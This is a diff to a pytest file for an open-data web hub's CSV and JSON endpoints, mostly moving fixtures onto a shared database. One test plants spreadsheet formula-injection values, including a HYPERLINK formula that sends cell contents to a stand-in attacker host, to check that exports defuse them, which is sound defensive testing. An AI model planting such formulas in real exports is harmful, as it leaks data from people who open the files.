@@ -12,8 +12,8 @@ from tests.hub.web.sitekit import HOSTILE, small_site
 
 
 @pytest.fixture(scope="module")
-def site(tmp_path_factory):
-    return small_site(tmp_path_factory.mktemp("opendata"))
+def site(hub_db_shared, tmp_path_factory):
+    return small_site(hub_db_shared)
 
 
 @pytest.fixture(scope="module")
@@ -107,8 +107,8 @@ def test_csvw_metadata_describes_every_csv(client):
             assert key["columnReference"] in header
 
 
-def test_the_licence_is_configurable(tmp_path):
-    site = small_site(tmp_path, licence_name="CC BY 4.0",
+def test_the_licence_is_configurable(hub_db, tmp_path):
+    site = small_site(hub_db, licence_name="CC BY 4.0",
                       licence_url="https://creativecommons.org/licenses/by/4.0/")
     client = site.client()
     assert client.get("/data/v1/events.json").json()["licence"]["name"] == "CC BY 4.0"
@@ -122,9 +122,9 @@ def test_unknown_dataset_is_404(client):
     assert client.get("/data/v2/events.csv").status_code == 404
 
 
-def test_csv_cells_a_spreadsheet_would_run_are_defused_like_the_admin_export(tmp_path):
+def test_csv_cells_a_spreadsheet_would_run_are_defused_like_the_admin_export(hub_db, tmp_path):
     from tests.hub.web.sitekit import Scanner
-    site = small_site(tmp_path)
+    site = small_site(hub_db)
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
     mallory = site.store.add_person(formula, consent="full")  # chose to be shown by full name
     event = site.store.add_event("@SUM(1+1)", "2025-05-01", venue="-2+3", hashtag="+cmd")
